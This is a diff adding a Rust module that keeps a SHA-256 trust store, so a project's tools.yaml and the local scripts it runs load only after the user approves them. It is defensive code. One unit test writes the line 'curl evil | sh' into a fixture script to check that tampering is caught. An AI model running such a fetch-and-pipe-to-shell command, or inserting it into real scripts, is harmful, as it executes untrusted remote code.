@@ -0,0 +1,155 @@
+//! Trust store for project-local tools.yaml files.
+//!
+//! A `./tools.yaml` comes with whatever directory the client starts in, so a
+//! cloned repository could define arbitrary commands. Such files only load
+//! once approved with `gamecode-mcp trust`, and only while their contents
+//! still match the approved SHA-256. The digest also covers the local files
+//! the tools run by path, such as `./scripts/deploy.sh` or a wasm module, so
+//! replacing one of those needs approving too.
+
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+#[derive(Debug, Default)]
+pub struct TrustStore {
+    path: PathBuf,
+    // Canonical file path -> SHA-256 of the approved contents and local files
+    entries: BTreeMap<String, String>,
+}
+
+#[derive(Debug, PartialEq, Eq)]
+pub enum Trust {
+    Trusted,
+    Untrusted,
+    // Approved once, but edited since
+    Changed,
+}
+
+impl TrustStore {
+    pub fn default_path() -> Option<PathBuf> {
+        home::home_dir().map(|d| d.join(".config/gamecode-mcp/trusted.json"))
+    }
+
+    /// Open the store at `path`; a missing file is an empty store.
+    pub fn load(path: &Path) -> Result<Self, String> {
+        let entries = match fs::read_to_string(path) {
+            Ok(content) => serde_json::from_str(&content)
+                .map_err(|e| format!("Invalid trust store {:?}: {}", path, e))?,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => BTreeMap::new(),
+            Err(e) => return Err(format!("Failed to read trust store {:?}: {}", path, e)),
+        };
+        Ok(Self {
+            path: path.to_path_buf(),
+            entries,
+        })
+    }
+
+    /// Whether `content`, read from `file`, and the `local` files it runs
+    /// are what the user approved.
+    pub fn check(&self, file: &Path, content: &[u8], local: &[PathBuf]) -> Trust {
+        match self.entries.get(&key(file)) {
+            None => Trust::Untrusted,
+            Some(hash) if *hash == digest(content, local) => Trust::Trusted,
+            Some(_) => Trust::Changed,
+        }
+    }
+
+    pub fn trust(&mut self, file: &Path, content: &[u8], local: &[PathBuf]) {
+        self.entries.insert(key(file), digest(content, local));
+    }
+
+    pub fn revoke(&mut self, file: &Path) -> bool {
+        self.entries.remove(&key(file)).is_some()
+    }
+
+    pub fn save(&self) -> Result<(), String> {
+        if let Some(dir) = self.path.parent() {
+            fs::create_dir_all(dir)
+                .map_err(|e| format!("Failed to create directory {:?}: {}", dir, e))?;
+        }
+        let content = serde_json::to_string_pretty(&self.entries).map_err(|e| e.to_string())?;
+        // Replace atomically so a concurrent server never reads half a file
+        let tmp = self.path.with_extension("json.tmp");
+        fs::write(&tmp, content + "\n")
+            .and_then(|_| fs::rename(&tmp, &self.path))
+            .map_err(|e| format!("Failed to write trust store {:?}: {}", self.path, e))
+    }
+}
+
+fn key(file: &Path) -> String {
+    fs::canonicalize(file)
+        .unwrap_or_else(|_| file.to_path_buf())
+        .display()
+        .to_string()
+}
+
+/// SHA-256 of a tools file and, in order, the local files it runs. Without
+/// any it is the file's plain SHA-256.
+pub fn digest(content: &[u8], local: &[PathBuf]) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(content);
+    for path in local {
+        // A missing file differs from every present one, so adding it later counts
+        match fs::read(path) {
+            Ok(bytes) => {
+                hasher.update([1]);
+                hasher.update(Sha256::digest(bytes));
+            }
+            Err(_) => hasher.update([0]),
+        }
+    }
+    hex::encode(hasher.finalize())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    #[test]
+    fn test_trust_is_keyed_by_path_and_content() {
+        let temp_dir = TempDir::new().unwrap();
+        let store_path = temp_dir.path().join("config/trusted.json");
+        let project = temp_dir.path().join("tools.yaml");
+        fs::write(&project, "tools: []\n").unwrap();
+
+        let mut store = TrustStore::load(&store_path).unwrap();
+        assert_eq!(store.check(&project, b"tools: []\n", &[]), Trust::Untrusted);
+        store.trust(&project, b"tools: []\n", &[]);
+        store.save().unwrap();
+
+        // A relative spelling of the same file matches after reloading
+        let store = TrustStore::load(&store_path).unwrap();
+        let dotted = temp_dir.path().join(".").join("tools.yaml");
+        assert_eq!(store.check(&dotted, b"tools: []\n", &[]), Trust::Trusted);
+        assert_eq!(store.check(&project, b"tools: [evil]\n", &[]), Trust::Changed);
+
+        let mut store = store;
+        assert!(store.revoke(&project));
+        assert_eq!(store.check(&project, b"tools: []\n", &[]), Trust::Untrusted);
+    }
+
+    #[test]
+    fn test_trust_covers_local_files() {
+        let temp_dir = TempDir::new().unwrap();
+        let project = temp_dir.path().join("tools.yaml");
+        let script = temp_dir.path().join("deploy.sh");
+        let local = [script.clone()];
+        assert_eq!(digest(b"tools: []\n", &[]), hex::encode(Sha256::digest(b"tools: []\n")));
+
+        let mut store = TrustStore::load(&temp_dir.path().join("trusted.json")).unwrap();
+        fs::write(&script, "echo deploying\n").unwrap();
+        store.trust(&project, b"tools: []\n", &local);
+        assert_eq!(store.check(&project, b"tools: []\n", &local), Trust::Trusted);
+        fs::write(&script, "curl evil | sh\n").unwrap();
+        assert_eq!(store.check(&project, b"tools: []\n", &local), Trust::Changed);
+
+        // Creating a file that was missing when trusted is a change as well
+        fs::remove_file(&script).unwrap();
+        store.trust(&project, b"tools: []\n", &local);
+        fs::write(&script, "").unwrap();
+        assert_eq!(store.check(&project, b"tools: []\n", &local), Trust::Changed);
+    }
+}